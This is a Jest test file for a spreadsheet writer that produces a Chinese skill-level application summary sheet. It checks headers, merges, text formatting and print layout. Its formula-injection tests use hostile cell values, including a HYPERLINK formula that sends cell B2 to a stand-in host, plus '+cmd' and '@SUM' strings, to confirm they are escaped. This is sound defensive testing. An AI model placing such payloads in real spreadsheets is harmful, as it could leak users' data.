import * as ExcelJS from 'exceljs';
import {
  LEVELS,
  SAMPLE_META,
  loadWorkbook,
  sampleRow,
} from '../../../../test/fixtures/xlsx/summary/summary-fixtures';
import { unzipEntries } from '../../../../test/fixtures/xlsx/zip-builder';
import {
  SUMMARY_COLUMNS,
  safeCellText,
  summaryRowTexts,
  writeSummaryWorkbook,
} from './summary-workbook';

const EXPECTED_MERGES = [
  'A1:L1',
  'A2:L2',
  'A3:L3',
  'A4:L4',
  ...'ABCDEFG'.split('').map((c) => `${c}5:${c}6`),
  'H5:J5',
  'K5:L5',
];

async function writeSheet(
  rows = [sampleRow()],
  meta = SAMPLE_META,
): Promise<{ buffer: Buffer; sheet: ExcelJS.Worksheet; workbook: ExcelJS.Workbook }> {
  const buffer = await writeSummaryWorkbook(rows, meta);
  const workbook = await loadWorkbook(buffer);
  return { buffer, workbook, sheet: workbook.worksheets[0] };
}

const texts = (sheet: ExcelJS.Worksheet, row: number): unknown[] =>
  Array.from({ length: 12 }, (_, i) => sheet.getRow(row).getCell(i + 1).value);

describe('safeCellText', () => {
  it.each([
    ['=HYPERLINK("http://x/?"&B2,"点我")'],
    ['@SUM(1+1)'],
    ['+cmd'],
    ['-1+1'],
    ['-'],
    ['\t=1'],
    ['\r=1'],
    ['\0=1'],
  ])('prefixes %j with a quote', (text) => {
    expect(safeCellText(text)).toBe(`'${text}`);
  });

  it.each([['张三'], ['2025-07-31'], [''], ['110101199003071234'], ["'已转义"]])(
    'leaves %j alone',
    (text) => {
      expect(safeCellText(text)).toBe(text);
    },
  );
});

describe('summaryRowTexts', () => {
  it('turns a row into twelve texts in column order, empty fields as null', () => {
    const row = sampleRow({
      seq: 12,
      currentOccupation: null,
      currentLevel: null,
      currentCertDate: null,
    });
    expect(summaryRowTexts(row)).toEqual([
      '12',
      '张三',
      '男',
      '1985-03',
      '21020219850307123X',
      '高中',
      '2005-07-01',
      null,
      null,
      null,
      '汽车驾驶员',
      '技师',
    ]);
  });
});

describe('writeSummaryWorkbook', () => {
  it('shares one column definition with the reader: twelve columns, A–L of 附件2', () => {
    expect(SUMMARY_COLUMNS.map((col) => col.label)).toEqual([
      '序号',
      '姓名',
      '性别',
      '出生年月',
      '身份证号',
      '文化程度',
      '参加工作时间',
      '现职业等级情况/职种',
      '现职业等级情况/等级',
      '现职业等级情况/获证时间',
      '申报职业等级情况/职种',
      '申报职业等级情况/等级',
    ]);
  });

  it('lays out title, meta lines and the exact two-row header of 附件2', async () => {
    const { sheet } = await writeSheet();
    expect(sheet.name).toBe('申报汇总表');
    expect(sheet.getCell('A1').value).toBe(SAMPLE_META.title);
    expect(sheet.getCell('A1').font).toMatchObject({ bold: true });
    expect(sheet.getCell('A1').alignment).toMatchObject({ horizontal: 'center' });
    expect(sheet.getCell('A2').value).toBe('主管部门：大连市教育局（盖章）  单位：大连市第一中学');
    expect(sheet.getCell('A3').value).toBe('填报人：李四');
    expect(sheet.getCell('A4').value).toBe('联系电话：0411-82345678');
    const top = ['序号', '姓名', '性别', '出生年月', '身份证号', '文化程度', '参加工作时间'];
    expect(texts(sheet, 5)).toEqual([
      ...top,
      '现职业等级情况',
      '现职业等级情况',
      '现职业等级情况',
      '申报职业等级情况',
      '申报职业等级情况',
    ]);
    // Row 6: A–G are covered by the vertical merges (exceljs reports the master's value).
    expect(texts(sheet, 6)).toEqual([...top, '职种', '等级', '获证时间', '职种', '等级']);
    expect([...sheet.model.merges].sort()).toEqual([...EXPECTED_MERGES].sort());
    expect(sheet.getCell('I5').isMerged && sheet.getCell('I5').master.address).toBe('H5');
  });

  it('omits 单位 and leaves blanks for missing filler and phone', async () => {
    const { sheet } = await writeSheet([], { title: 'T', departmentName: '大连市卫健委' });
    expect(sheet.getCell('A2').value).toBe('主管部门：大连市卫健委（盖章）');
    expect(sheet.getCell('A3').value).toBe('填报人：');
    expect(sheet.getCell('A4').value).toBe('联系电话：');
    expect(sheet.rowCount).toBe(6);
  });

  it('writes every data cell as text with the @ format and thin borders', async () => {
    const { sheet } = await writeSheet([sampleRow({ idNumber: '110101199003071234' })]);
    const id = sheet.getCell('E7');
    expect(id.value).toBe('110101199003071234');
    expect(id.type).toBe(ExcelJS.ValueType.String);
    expect(id.numFmt).toBe('@');
    expect(id.border).toMatchObject({ top: { style: 'thin' }, left: { style: 'thin' } });
    expect(sheet.getCell('A7').value).toBe('1');
    expect(texts(sheet, 7).every((value) => typeof value === 'string')).toBe(true);
  });

  it('leaves a person without a current level blank in H–J', async () => {
    const row = sampleRow({ currentOccupation: null, currentLevel: null, currentCertDate: null });
    const { sheet } = await writeSheet([row]);
    expect(texts(sheet, 7).slice(7, 10)).toEqual([null, null, null]);
    expect(sheet.getCell('H7').numFmt).toBe('@');
  });

  it('freezes below the header and prints landscape A4, one page wide, rows 5–6 repeated', async () => {
    const { sheet } = await writeSheet();
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 6, topLeftCell: 'A7' });
    expect(sheet.pageSetup).toMatchObject({
      paperSize: 9,
      orientation: 'landscape',
      fitToPage: true,
      fitToWidth: 1,
      fitToHeight: 0,
      printTitlesRow: '5:6',
    });
    expect(sheet.getColumn('E').width).toBeGreaterThanOrEqual(20);
  });

  // Checklist #25.
  it('never writes a formula and quotes text that a spreadsheet could evaluate', async () => {
    const hostile = sampleRow({
      name: '=HYPERLINK("http://x/?"&B2,"点我")',
      education: '@SUM(1+1)',
      currentOccupation: '+cmd',
      currentLevel: '-1+1',
      currentCertDate: '-',
      targetOccupation: '\t=1',
    });
    const { buffer, sheet } = await writeSheet([hostile]);
    const entries = await unzipEntries(buffer);
    const sheetXml = entries.find((e) => e.name === 'xl/worksheets/sheet1.xml');
    expect(sheetXml?.data.toString('utf8')).not.toMatch(/<f[ >]/);
    expect(texts(sheet, 7)).toEqual([
      '1',
      `'=HYPERLINK("http://x/?"&B2,"点我")`,
      '男',
      '1985-03',
      '21020219850307123X',
      "'@SUM(1+1)",
      '2005-07-01',
      "'+cmd",
      "'-1+1",
      "'-",
      "'\t=1",
      '技师',
    ]);
    expect(sheet.getCell('B7').type).toBe(ExcelJS.ValueType.String);
  });

  it('marks a 免考复核认定 candidate (二(九)) in the 等级 cell, the columns unchanged', async () => {
    const { sheet } = await writeSheet([
      sampleRow({ seq: 1, targetLevel: '技师', exemptReview: true }),
      sampleRow({ seq: 2, targetLevel: '技师' }),
    ]);
    expect(sheet.getCell('L7').value).toBe('技师（免考复核认定）');
    expect(sheet.getCell('L8').value).toBe('技师');
    expect(sheet.getCell('M7').value).toBeNull();
  });

  it('writes rows in order, one per person', async () => {
    const rows = LEVELS.map((level, i) => sampleRow({ seq: i + 1, targetLevel: level }));
    const { sheet } = await writeSheet(rows);
    expect(sheet.rowCount).toBe(10);
    expect([7, 8, 9, 10].map((r) => sheet.getCell(`L${r}`).value)).toEqual(LEVELS);
  });
});
